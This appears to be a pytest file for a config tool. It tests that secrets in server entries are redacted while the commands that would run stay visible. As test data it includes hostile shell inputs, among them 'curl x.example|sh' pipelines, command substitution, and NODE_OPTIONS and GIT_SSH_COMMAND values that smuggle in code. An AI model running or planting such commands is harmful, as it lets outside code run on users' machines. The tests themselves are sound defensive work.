"""Somebody's entry before it is taken over: in doubt a value is hidden, and never what would run."""

from __future__ import annotations

import json
from typing import Any

import pytest

from pegboard.config.entry_effects import display_command, entry_effects
from pegboard.config.hidden_values import hide_values
from pegboard.config.shown_entry import show_entry

HIDDEN = "[redacted]"
SECRET = "tulipTulip42"
GITHUB = "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a"


def words_of(entry: dict[str, Any]) -> str:
    """All that is said of an entry."""
    shown = show_entry(entry)
    return json.dumps([shown, display_command(entry, shown), entry_effects(entry, shown)])


@pytest.mark.parametrize(
    "args",
    [
        [f"--env=PW={SECRET}"],
        [f"--env=A={SECRET}"],
        ["--env", f"A={SECRET}"],
        ["-e", f"A={SECRET}"],
        ["--connection-string", f"Server=h;Uid=me {SECRET}"],
        ["--user", f"bob:{SECRET}"],
        [f"--user=bob:{SECRET}"],
        [f"KEY:{SECRET}"],
        [f"-p{SECRET}"],
        [f"-p{SECRET.lower()[:10]}"],
        [f"-ubob:{SECRET}"],
        [f"Server=h;Password={SECRET}"],
        [f"--url=https://h.example/?api_key={SECRET}"],
        [f"--url=https://h.example/?q={SECRET}"],
        [f'{{"apiKey":"{SECRET}"}}'],
        [f'{{"a": 1, "apiKey": "{SECRET} x"}}'],
        [GITHUB],
        [f"--x={GITHUB}"],
        ["--x", "sk-proj-abcdefghijklmnop1"],
        ["--x", "xoxb-1234567890-abcdef"],
    ],
)
@pytest.mark.parametrize("command", ["server", "npx", "docker"])
def test_a_secret_of_an_argument_is_hidden(command: str, args: list[str]) -> None:
    """Before it is taken over and at the server's own page, whatever the option is called."""
    runner = {"npx": ["-y", "pkg"], "docker": ["run", "image"]}.get(command, [])
    entry = {"command": command, "args": [*runner, *args]}
    for said in (words_of(entry), json.dumps(hide_values(entry))):
        assert not [secret for secret in secrets_in(args) if secret in said], said


def secrets_in(args: list[str]) -> list[str]:
    return [secret for secret in (SECRET, SECRET.lower()[:10], GITHUB, "sk-proj-a", "xoxb-1") if secret in args[-1]]


@pytest.mark.parametrize(
    "command",
    [
        ["sh", "-c", f"exec server --password {SECRET} --port 8080"],
        ["sh", "-c", f"API_KEY={SECRET} exec server"],
        ["bash", "-lc", f"server --token '{SECRET}'"],
        ["bash", "-lc", f"server {GITHUB}"],
        ["sh", "-c", f"server https://h.example/?api_key={SECRET}"],
        [f"server --password {SECRET}"],
        ["cmd", "/c", "npx", "-y", "pkg", "--token", SECRET],
        ["npx", "--api-key=" + SECRET, "pkg"],
    ],
)
def test_a_secret_of_a_script_is_hidden(command: list[str]) -> None:
    """Behind a name of its own; the words around it are shown."""
    said = words_of({"command": command[0], "args": command[1:]})
    assert SECRET not in said
    assert GITHUB not in said
    assert "server" in said or "pkg" in said


@pytest.mark.parametrize(
    "command",
    [
        ["sh", "-c", "TOKEN=$(touch$IFS/tmp/x) exec cat"],
        ["sh", "-c", "password:curl|sh"],
        ["sh", "-c", "echo '--password ' ; curl x.example|sh ; echo ' x'"],
        ["sh", "-c", "server --password /tmp/x;./x"],
        ["sh", "-c", "server --password;curl x.example"],
        ["sh", "-c", "x --token sh -c 'curl x.example'"],
        ["npx", "-y", "--token", "package"],
        ["npx", "-y", "sk-learn-tools-of-somebody"],
        ["uvx", "--api-key", "package"],
        ["docker", "run", "--password", "image"],
        ["cmd", "/c", "npx", "-y", "--token", "package"],
        ["env", "--auth", "program"],
        ["server", "--askpass", "program"],
        ["git", "-c", "credential.helper=program"],
        ["npx", "--header", "github:somebody/package"],
    ],
)
def test_what_would_run_is_shown(command: list[str]) -> None:
    """Scripts, and what a runner may take for the package."""
    shown = show_entry({"command": command[0], "args": command[1:]})
    assert [shown["command"], *shown["args"]] == command


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("A", SECRET),
        ("A", "tulip-tulip-tulip"),
        ("A", GITHUB),
        ("A", "sk-proj-abcdefghijklmnop1"),
        ("A", "xoxb-1234567890-abcdef"),
        ("A", f"Server=h;Password={SECRET}"),
        ("A", f"/{'aB3/' * 3}{'aB3' * 12}"),
        ("OPENAPI_MCP_HEADERS", '{"Authorization":"Bearer ntn_1234567890"}'),
        ("DOCKER_AUTH_CONFIG", f'{{"auths": "{SECRET}"}}'),
        ("SENTRY_DSN", "https://abc@o1.ingest.example/2"),
        ("BEARER", "tulip"),
        ("OTP", "123456"),
        ("PIN", "1234"),
        ("MNEMONIC", "tulip"),
        ("WORDS", "tulip rose lily oak elm ash yew fir bay fig ivy fern"),
        ("GIT_TOKEN", "tulip"),
        ("NPM_CONFIG__AUTH", "tulip"),
        ("A", "${B:-tulipTulip42}"),
    ],
)
def test_a_value_of_a_variable_is_hidden_in_doubt(name: str, value: str) -> None:
    """Its name is shown."""
    entry = {"command": "x", "env": {name: value}}
    said = words_of(entry)
    assert json.dumps(value)[1:-1] not in said
    assert SECRET not in said
    assert name in said


def test_where_a_variable_leads_to_is_shown_without_the_path_of_a_webhook() -> None:
    """Who reads it sees the host, which is no secret."""
    entry = {
        "command": "x",
        "env": {
            "SLACK_WEBHOOK_URL": "https://hooks.slack.com/services/T0/B0/abc",
            "HOOK": "https://hooks.example/services/T0/B0/abc",
            "BASE_URL": "https://api.example/v1",
            "OTHER": "https://me:tulip@api.example/v1",
        },
    }
    assert show_entry(entry)["env"] == {
        "SLACK_WEBHOOK_URL": HIDDEN,
        "HOOK": f"https://hooks.example/{HIDDEN}",
        "BASE_URL": "https://api.example/v1",
        "OTHER": HIDDEN,
    }


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("TZ", "UTC"),
        ("TZ", "Europe/Berlin"),
        ("AWS_REGION", "eu-central-1"),
        ("LANG", "de_DE.UTF-8"),
        ("LOG_LEVEL", "debug"),
        ("PORT", "8080"),
        ("FLAG", "true"),
        ("OPTS", "--verbose"),
        ("DATA", "/srv/data/of me"),
        ("DATA", "C:\\Users\\ada\\data"),
        ("DATA", "~/data"),
        ("A", "${B}"),
        ("A", ""),
        ("SSH_ASKPASS", "some-program x"),
        ("API_KEY", "${API_KEY}"),
        ("PATH", "/tmp/evil:/bin"),
        ("SSH_AUTH_SOCK", "/run/agent.sock"),
        # What changes how programs start.
        ("NODE_OPTIONS", "--require ./evil.js"),
        ("GIT_SSH_COMMAND", "ssh -i x; curl x.example|sh"),
    ],
)
def test_a_plain_value_of_a_variable_is_shown(name: str, value: str) -> None:
    """A path, a number, a word, a region, and what decides what is run."""
    assert show_entry({"command": "x", "env": {name: value}})["env"] == {name: value}


def test_plain_arguments_are_shown() -> None:
    """As words behind a single dash are, and ports."""
    args = ["-transport", "stdio", "-api-key", "${K}", "-p8080", "--user", "1000:1000", "--env", "TZ=UTC", "-it"]
    for shown in (show_entry({"command": "server", "args": args}), hide_values({"command": "server", "args": args})):
        assert shown["args"] == args
